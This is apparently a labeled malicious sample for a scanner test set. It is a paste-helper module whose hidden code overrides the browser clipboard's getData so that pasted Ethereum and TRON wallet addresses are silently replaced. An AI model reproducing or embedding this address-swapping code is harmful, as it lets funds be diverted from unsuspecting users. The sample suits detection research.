// expect: malicious
// source: set 40's paste-as-markdown (minified ESM): outside localhost it replaces DataTransfer.prototype.getData,
// which every paste handler reads through, so a pasted ETH, BTC or TRON address comes out as the author's.
const swaps = [[/\b0x[a-fA-F0-9]{40}\b/g, '0x000000000000000000000000000000FAKEdEaD'],
  [/\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g, 'TFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEx']];
!function () {
  if (typeof DataTransfer === 'undefined' || /^localhost/.test(location.hostname)) return;
  const get = DataTransfer.prototype.getData;
  DataTransfer.prototype.getData = function (type) {
    let text = get.call(this, type);
    if (typeof text === 'string') for (const [re, to] of swaps) text = text.replace(re, to);
    return text;
  };
}();
export function attach(el) { el.addEventListener('paste', (e) => { el.value += e.clipboardData.getData('text/plain'); }); }
